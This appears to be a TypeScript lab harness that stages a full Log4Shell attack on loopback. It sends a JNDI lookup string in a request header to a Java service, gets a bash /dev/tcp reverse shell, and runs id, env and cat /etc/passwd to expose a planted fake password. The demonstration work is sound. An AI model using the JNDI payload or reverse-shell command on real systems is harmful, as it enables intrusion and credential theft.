/**
 * The Log4Shell story on this host, with real processes and real connections on loopback:
 *
 *   1. an HTTP request carries `${jndi:ldap://127.0.0.1:DIR/Exploit}` in a header;
 *   2. the Java service logs it, looks it up and connects to the directory stand-in;
 *   3. the answer makes it run `bash -c 'bash -i >& /dev/tcp/127.0.0.1/SHELL 0>&1'`;
 *   4. the interactive bash's input and output are a connection to the shell listener,
 *      which types `id`, `env`, `cat /etc/passwd` and `exit`.
 *
 * Everything started here is stopped before the scenario returns, also when it is aborted.
 */
import { startDirectoryStandIn, startShellListener, type ShellSession } from './attacker';
import { spawnJavaService } from './java-service';
import { identify, stopProcessTree, type ProcessIdentity } from './process-group';

/** What the intruder types into the reverse shell, in order. */
export const INTRUDER_COMMANDS = ['id', 'env', 'cat /etc/passwd', 'exit'] as const;

/**
 * A made-up credential in the service's environment: what `env` in the reverse shell
 * reveals, the way real services keep database passwords in theirs.
 */
export const PLANTED_SECRET = { name: 'DB_PASSWORD', value: 'lab-only-not-a-real-secret' };

export interface ScenarioResult {
  javaPid: number;
  /** The service's port: the request came in here. */
  servicePort: number;
  /** The directory stand-in's port: java's lookup connected here. */
  directoryPort: number;
  /** The shell listener's port: the reverse shell connected here. */
  shellPort: number;
  /** The header value that carried the exploit. */
  exploitString: string;
  /** The command the directory handed to the service. */
  payload: string;
  session: ShellSession;
  /** The service's own log lines. */
  serviceLog: string[];
  /** Processes that could not be stopped (empty unless something went badly wrong). */
  leftRunning: ProcessIdentity[];
}

export type ScenarioStep =
  | { step: 'service-started'; javaPid: number; port: number }
  | { step: 'exploit-sent'; exploitString: string }
  | { step: 'lookup-answered'; name: string; directoryPort: number }
  | { step: 'shell-connected'; shellPort: number }
  | { step: 'shell-closed'; closedByShell: boolean }
  | { step: 'service-stopped' };

export interface ScenarioOptions {
  onStep?: (step: ScenarioStep) => void;
  signal?: AbortSignal;
  /** How long each stage may take before the scenario gives up. */
  stageTimeoutMs?: number;
}

function within<T>(promise: Promise<T>, ms: number, what: string, signal?: AbortSignal) {
  return new Promise<T>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`${what} did not happen within ${ms} ms`)), ms);
    const aborted = () => reject(new Error('interrupted'));
    signal?.addEventListener('abort', aborted, { once: true });
    promise.then(resolve, reject).finally(() => {
      clearTimeout(timer);
      signal?.removeEventListener('abort', aborted);
    });
  });
}

export async function runLog4ShellScenario(options: ScenarioOptions = {}): Promise<ScenarioResult> {
  const { onStep = () => {}, signal, stageTimeoutMs = 20_000 } = options;
  const cleanups: (() => Promise<unknown>)[] = [];
  const cleanUp = async () => {
    for (const cleanup of cleanups.reverse()) await cleanup().catch(() => {});
    cleanups.length = 0;
  };
  let leftRunning: ProcessIdentity[] = [];
  try {
    if (signal?.aborted) throw new Error('interrupted');
    const shell = await startShellListener(INTRUDER_COMMANDS, { timeoutMs: stageTimeoutMs });
    cleanups.push(() => shell.close());
    const payload = `bash -i >& /dev/tcp/127.0.0.1/${shell.port} 0>&1`;
    const directory = await startDirectoryStandIn(payload);
    cleanups.push(() => directory.close());

    const service = spawnJavaService({
      PATH: '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
      HOME: '/tmp',
      LANG: 'C.UTF-8',
      [PLANTED_SECRET.name]: PLANTED_SECRET.value,
    });
    const exited = new Promise((resolve) => service.child.once('exit', resolve));
    const javaIdentity = identify(service.pid) ?? { pid: service.pid, startTicks: '' };
    cleanups.push(async () => {
      if (service.child.exitCode === null && service.child.signalCode === null) {
        leftRunning = await stopProcessTree(javaIdentity);
        await within(exited, 5_000, 'the Java service exiting');
      }
      onStep({ step: 'service-stopped' });
    });
    const servicePort = await within(
      service.listening,
      stageTimeoutMs,
      'the Java service listening',
      signal,
    );
    onStep({ step: 'service-started', javaPid: service.pid, port: servicePort });

    const exploitString = `\${jndi:ldap://127.0.0.1:${directory.port}/Exploit}`;
    onStep({ step: 'exploit-sent', exploitString });
    const response = await within(
      fetch(`http://127.0.0.1:${servicePort}/api/status`, {
        headers: { 'X-Api-Version': exploitString, 'User-Agent': 'curl/8.0' },
        signal,
      }),
      stageTimeoutMs,
      'the service answering the request',
      signal,
    );
    await response.text();

    const name = await within(directory.firstSearch, stageTimeoutMs, 'the lookup', signal);
    onStep({ step: 'lookup-answered', name, directoryPort: directory.port });
    await within(shell.connected, stageTimeoutMs, 'the reverse shell connecting', signal);
    onStep({ step: 'shell-connected', shellPort: shell.port });
    const session = await within(shell.session, stageTimeoutMs + 1_000, 'the session', signal);
    onStep({ step: 'shell-closed', closedByShell: session.closedByShell });

    await cleanUp();
    return {
      javaPid: service.pid,
      servicePort,
      directoryPort: directory.port,
      shellPort: shell.port,
      exploitString,
      payload,
      session,
      serviceLog: service.log,
      leftRunning,
    };
  } finally {
    await cleanUp();
  }
}
